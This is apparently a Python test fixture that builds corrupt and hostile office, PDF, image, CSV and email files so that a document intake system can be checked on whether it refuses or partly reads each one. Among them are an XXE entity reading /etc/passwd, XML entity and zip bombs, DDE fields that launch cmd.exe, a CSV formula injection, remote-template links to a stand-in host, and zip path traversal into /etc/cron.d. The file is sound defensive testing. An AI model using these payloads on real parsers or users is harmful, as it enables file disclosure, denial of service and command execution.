"""Broken and hostile files, as they arrive or as somebody would make them: ``build(folder)`` writes them all.

Each has what must become of it: REFUSED (no block at all, a reason for the whole file) or TOLD (whatever can be read is
read, and where anything is missing it is listed).
"""

from __future__ import annotations

import io
import random
import struct
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

from PIL import Image

from tests.intake.making import assembled_pdf, document, docx, eml, p, pdf, relationships, table, tc, xlsx, zipped

REFUSED, TOLD = "refused", "told"
MB = 1 << 20


class Hostile(NamedTuple):
    """One file: its name, its bytes, and what must become of it."""

    name: str
    content: bytes
    fate: str = REFUSED


def build(folder: Path) -> list[tuple[Path, str]]:
    """Write every file; its path and its fate."""
    built = []
    for sample in (*broken(), *of_another_kind(), *bombs(), *active(), *locked(), *odd()):
        path = folder / sample.name
        path.write_bytes(sample.content)
        built.append((path, sample.fate))
    return built


_REPORT = docx("".join(p(f"- Đề nghị sửa đoạn đường số {i}.") for i in range(200)))
_SHEET = xlsx([["STT", "Nội dung kiến nghị"], *([i, f"Đề nghị sửa cầu số {i}"] for i in range(200))])


def _noise(size: int) -> bytes:
    return random.Random(7).randbytes(size)


def _png(size: tuple[int, int] = (300, 200)) -> bytes:
    target = io.BytesIO()
    Image.new("L", size, 255).save(target, "PNG")
    return target.getvalue()


def _jpeg() -> bytes:
    target = io.BytesIO()
    Image.new("RGB", (300, 200), "white").save(target, "JPEG")
    return target.getvalue()


def ole(*names: str) -> bytes:
    """The head of a compound file and a directory with these names."""
    directory = b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in ("Root Entry", *names))
    return (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\0") + directory).ljust(8192, b"\0")


def broken() -> Iterator[Hostile]:
    """Half a file, no file, noise."""
    yield Hostile("rong.docx", b"")
    yield Hostile("rong.pdf", b"")
    yield Hostile("toan-dau-cach.txt", b" \r\n\t\n" * 50)
    yield Hostile("toan-so-khong.xlsx", bytes(5000))
    yield Hostile("nhieu.docx", _noise(20_000))
    yield Hostile("nhieu.txt", _noise(20_000))
    yield Hostile("nhieu-sau-dau-pdf.pdf", b"%PDF-1.7\n" + _noise(20_000))
    yield Hostile("nhieu-sau-dau-zip.xlsx", b"PK\x03\x04" + _noise(20_000))
    yield Hostile("nhieu-sau-dau-ole.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _noise(20_000))
    yield Hostile("nua-tep.docx", _REPORT[: len(_REPORT) // 2])
    yield Hostile("nua-tep.xlsx", _SHEET[: len(_SHEET) // 2])
    yield Hostile("thieu-duoi.docx", _REPORT[:-30])
    yield Hostile("sai-crc.docx", _flipped(_REPORT))
    yield Hostile("nua-tep.pdf", pdf([f"Dong {i}" for i in range(30)])[:200], TOLD)
    yield Hostile("nua-tep.png", _png()[:80])
    yield Hostile("nua-tep.jpg", _jpeg()[:100])
    yield Hostile("cut-dau.doc", ole("WordDocument")[:3000])
    yield Hostile("gia.doc", ole("WordDocument"))
    yield Hostile("gia.xls", ole("Workbook"))
    yield Hostile("thieu-noi-dung.docx", zipped({"[Content_Types].xml": "<Types/>", "word/styles.xml": "<a/>"}))
    yield Hostile("xml-hong.docx", docx("", {"word/document.xml": "<w:document><w:body>"}))
    yield Hostile("khong-phai-xml.docx", docx("", {"word/document.xml": b"\x00\x01\x02" * 99}))


def _flipped(content: bytes) -> bytes:
    """The first part's compressed bytes damaged."""
    start = content.index(b"word/document.xml") + 60
    return content[:start] + bytes(byte ^ 0xFF for byte in content[start : start + 40]) + content[start + 40 :]


def of_another_kind() -> Iterator[Hostile]:
    """Not what the name says, or nothing that is read."""
    yield Hostile("chuong-trinh.docx", b"MZ\x90\0" + _noise(4000))
    yield Hostile("chuong-trinh-linux.pdf", b"\x7fELF" + _noise(4000))
    yield Hostile("nen.rar.docx", b"Rar!\x1a\x07\0" + _noise(500))
    yield Hostile("nen.7z.xlsx", b"7z\xbc\xaf\x27\x1c" + _noise(500))
    yield Hostile("nen.gz.csv", b"\x1f\x8b\x08" + _noise(500))
    yield Hostile("anh.gif.png", b"GIF89a" + _noise(500))
    yield Hostile("phim.pdf", b"\0\0\0\x18ftypmp42" + _noise(500))
    yield Hostile("am-thanh.txt", b"ID3\x04" + _noise(500))
    yield Hostile("co-so-du-lieu.xls", b"SQLite format 3\0" + _noise(500))
    yield Hostile("tep-nen.docx", zipped({"bao-cao.txt": "Đề nghị sửa đường", "hai.txt": "x"}))
    yield Hostile("nen-trong-nen.zip", zipped({"trong.zip": zipped({"trong-nua.zip": zipped({"a.txt": "x"})})}))
    yield Hostile("trinh-chieu.pptx", zipped({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<a/>"}))
    yield Hostile("mo.odt", zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}))
    yield Hostile("trinh-chieu.ppt", ole("PowerPoint Document"))
    yield Hostile("word-that-ten.doc.pdf", _REPORT, TOLD)
    yield Hostile("bang-html.xls", "<html><body><p>Đề nghị sửa cầu</p></body></html>".encode(), TOLD)


_LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))


def bombs() -> Iterator[Hostile]:
    """Small files that grow without bound when read."""
    yield Hostile("bom-zip.docx", docx("", {"word/document.xml": document(p("a" * (64 * MB)))}))
    yield Hostile("bom-chuoi.xlsx", zipped({**_parts_of(_SHEET), "xl/sharedStrings.xml": b" " * (64 * MB)}))
    yield Hostile("bom-nhieu-phan.docx", docx(p("x"), {f"word/media/{i}.bin": b"x" for i in range(6000)}))
    yield Hostile("bom-khai-gian.docx", _understated(docx(p("a" * (20 * MB)))))
    laughs = f'<!DOCTYPE d [<!ENTITY l0 "ha">{_LAUGHS}]>'
    yield Hostile("bom-thuc-the.docx", docx("", {"word/document.xml": f"{laughs}<d>&l9;</d>"}))
    square = f'<!DOCTYPE d [<!ENTITY l0 "{"a" * 50_000}">]>'
    yield Hostile("bom-binh-phuong.docx", docx("", {"word/document.xml": f"{square}<d>{'&l0;' * 20_000}</d>"}))
    outside = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    body = document(p("&x;")).split("?>", 1)[1]
    yield Hostile("thuc-the-ngoai.docx", docx("", {"word/document.xml": outside + body}))
    shared = f'<!DOCTYPE d [<!ENTITY l0 "ha">{_LAUGHS}]><sst><si><t>&l9;</t></si></sst>'
    yield Hostile("bom-thuc-the.xlsx", zipped({**_parts_of(_SHEET), "xl/sharedStrings.xml": shared}))
    yield Hostile("bom-thuc-the.html", f'<!DOCTYPE html [<!ENTITY l0 "ha">{_LAUGHS}]><html><p>&l9;</p>'.encode())
    yield Hostile("long-sau.docx", docx("<w:sdt><w:sdtContent>" * 5000 + p("x") + "</w:sdtContent></w:sdt>" * 5000))
    yield Hostile("long-sau.html", b"<html><body>" + b"<div>" * 60_000 + b"x", TOLD)
    yield Hostile("o-xa.xlsx", zipped({**_parts_of(_SHEET), "xl/worksheets/sheet1.xml": _FAR_CELL}))
    yield Hostile("anh-khong-lo.png", _png_header(60_000, 60_000))
    yield Hostile("bom-dong.pdf", pdf(content=zlib.compress(b" " * (120 * MB), 1)))
    yield Hostile("trang-vong.pdf", assembled_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", _LOOP]))
    yield Hostile("trieu-trang.pdf", pdf().replace(b"/Count 1", b"/Count 9999999"), TOLD)
    yield Hostile(
        "o-rong.docx", docx(table([[tc("Nội dung", span=999_999_999), "x"], ["Đề nghị sửa đường", "y"]])), TOLD
    )
    span = "<table><tr><td colspan=99999 rowspan=99999>a<td rowspan=9999999>b</tr><tr><td>Đề nghị</table>"
    yield Hostile("o-rong.html", f"<html><body>{span}</body></html>".encode(), TOLD)
    yield Hostile("dong-dai.txt", "đề nghị sửa đường, ".encode() * 1_100_000)
    yield Hostile("o-dai.csv", b'noi dung,ghi chu\n"' + b"a" * (3 * MB) + b'",x\n')
    yield Hostile("nhieu-dong.csv", b"noi dung,ghi chu\n" + b"a,b\n" * 250_000)
    yield Hostile("mau-lap.txt", (b"((((- " * 200_000) + b"\n" + b"1." * 200_000, TOLD)


_FAR_CELL = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    "</sheetData></worksheet>"
)
_LOOP = b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"


def _parts_of(content: bytes) -> dict[str, bytes]:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {name: package.read(name) for name in package.namelist()}


def _understated(content: bytes) -> bytes:
    """The table of contents says that the large part has 1,000 bytes."""
    directory = content.rindex(b"PK\x01\x02")
    return content[: directory + 24] + struct.pack("<I", 1000) + content[directory + 28 :]


def _png_header(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 99)) + chunk(b"IEND", b"")
    )


def active() -> Iterator[Hostile]:
    """Files that would run or fetch something when opened in an office program."""
    macro_types = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    yield Hostile("macro.docm", docx(p("x"), {"[Content_Types].xml": macro_types, "word/vbaProject.bin": b"x"}))
    yield Hostile("macro-doi-ten.docx", docx(p("x"), {"word/vbaProject.bin": b"x"}))
    yield Hostile("macro.xlsm", zipped({**_parts_of(_SHEET), "xl/vbaProject.bin": b"x"}))
    yield Hostile("macro-4.xlsx", zipped({**_parts_of(_SHEET), "xl/macrosheets/sheet1.xml": b"<x/>"}))
    yield Hostile("macro.xls", ole("Workbook", "_VBA_PROJECT_CUR"))
    yield Hostile("macro.doc", ole("WordDocument", "Macros"))
    far = "https://may-chu-la.example/mau.dotm"
    yield _linked("mau-tu-xa.docx", "settings.xml.rels", relationships("attachedTemplate", far))
    yield _linked("mau-tu-xa-smb.docx", "settings.xml.rels", relationships("attachedTemplate", r"\\10.0.0.9\c\m.dot"))
    yield _linked("ole-lien-ket.docx", "document.xml.rels", relationships("oleObject", "file:///c:/x.xls"))
    yield _linked("anh-tu-xa.docx", "document.xml.rels", relationships("image", "http://may-chu-la.example/a.png"))
    yield _linked("khung-tu-xa.docx", "document.xml.rels", relationships("frame", "http://may-chu-la.example/"))
    yield Hostile("dde.docx", docx(_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')))
    yield Hostile("dde-chia-nho.docx", docx(_field("DD", "EAUTO", " cmd.exe")))
    yield Hostile("chen-tu-xa.docx", docx(_field('INCLUDETEXT "https://may-chu-la.example/a.docx"')))
    yield Hostile("tep-chay.docx", docx(p("x"), {"word/embeddings/hoa-don.exe": b"MZ"}))
    dde = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield Hostile("dde.xlsx", zipped({**_parts_of(_SHEET), "xl/externalLinks/externalLink1.xml": dde}))
    yield Hostile("thoat-ra.docx", docx(p("x"), {"../../../etc/cron.d/x": b"x"}))
    yield Hostile("thoat-ra-windows.docx", docx(p("x"), {"C:\\Windows\\x.dll": b"x"}))
    yield Hostile("doi-tuong.rtf", b"{\\rtf1 {\\object\\objautlink{\\*\\objdata 0105000002000000}}}")


def _linked(name: str, part: str, rels: str) -> Hostile:
    return Hostile(name, docx(p("x"), {f"word/_rels/{part}": rels}))


def _field(*codes: str) -> str:
    return "<w:p>" + "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes) + "</w:p>"


def locked() -> Iterator[Hostile]:
    """Files under a password."""
    yield Hostile("mat-khau.docx", ole("EncryptionInfo", "EncryptedPackage"))
    word = bytearray(ole("WordDocument"))
    word[1024:1036] = b"\xec\xa5\xc1\0" + bytes(7) + b"\x01"
    yield Hostile("mat-khau.doc", bytes(word))
    key = "<" + "41" * 32 + ">"
    encrypt = f"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O {key} /U {key} >> /ID [<41> <41>]"
    yield Hostile("mat-khau.pdf", pdf(trailer=encrypt))
    flagged = bytearray(_REPORT)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        flagged[flagged.index(mark) + offset] |= 1
    yield Hostile("mat-khau-zip.docx", bytes(flagged))


def odd() -> Iterator[Hostile]:
    """Strange but not evil: what can be read is read, and nothing vanishes silently."""
    yield Hostile("khong-chu.docx", docx(p() + p("   ")))
    yield Hostile("khong-chu.xlsx", xlsx([]))
    yield Hostile("khong-chu.pdf", pdf([]))
    yield Hostile("khong-chu.html", b"<html><head><title>x</title></head><body><script>a()</script></body></html>")
    yield Hostile("khong-chu.eml", b"From: a@b.example\nTo: c@d.example\nDate: x\nMIME-Version: 1.0\n\n")
    yield Hostile("anh-trang.png", _png(), TOLD)
    yield Hostile("trang-an.xlsx", xlsx([], An="Đề nghị sửa cầu"), TOLD)
    loop = "".join(
        f'<w:style xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" w:styleId="{a}">'
        f'<w:basedOn w:val="{b}"/></w:style>'
        for a, b in ("ab", "ba")
    )
    yield Hostile("kieu-vong.docx", docx(p("Đề nghị sửa cầu"), {"word/styles.xml": f"<s>{loop}</s>"}), TOLD)
    yield Hostile("chen-tep.docx", docx(p("Xem phần sau") + '<w:altChunk r:id="rId5"/>'), TOLD)
    yield Hostile("cong-thuc.csv", b"STT,Noi dung\n1,=cmd|'/c calc'!A1\n2,@SUM(1)\n", TOLD)
    yield Hostile("cong-thuc.xlsx", xlsx([["STT", "Nội dung"], [1, "=HYPERLINK(1)"]]), TOLD)
    yield Hostile("dinh-kem.eml", eml("Kính gửi báo cáo.", attachments={"a.exe": b"MZ", "b.docx": _REPORT}), TOLD)
    yield Hostile("bang-ma-la.eml", eml("Kính gửi").replace(b"utf-8", b"x-khong-co"), TOLD)
    yield Hostile("bang-ma-la.html", b"<html><meta charset='x-khong-co'><p>De nghi sua duong</p></html>", TOLD)
    yield Hostile("utf16-le.txt", b"\xff\xfe" + "Đề nghị sửa cầu".encode("utf-16-le")[:-1], TOLD)
